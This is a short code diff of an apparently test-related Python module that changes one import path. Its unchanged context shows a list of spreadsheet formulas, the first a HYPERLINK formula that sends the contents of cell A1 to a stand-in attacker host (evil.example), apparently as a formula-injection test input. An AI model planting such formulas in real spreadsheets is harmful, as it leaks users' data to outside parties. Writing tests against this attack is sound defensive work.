@@ -18,7 +18,7 @@ import re
 import pypdf
 from openpyxl import load_workbook
 
-from qa_app.reports.docx_base import docx_text
+from qa_app.documents.docx_base import docx_text
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
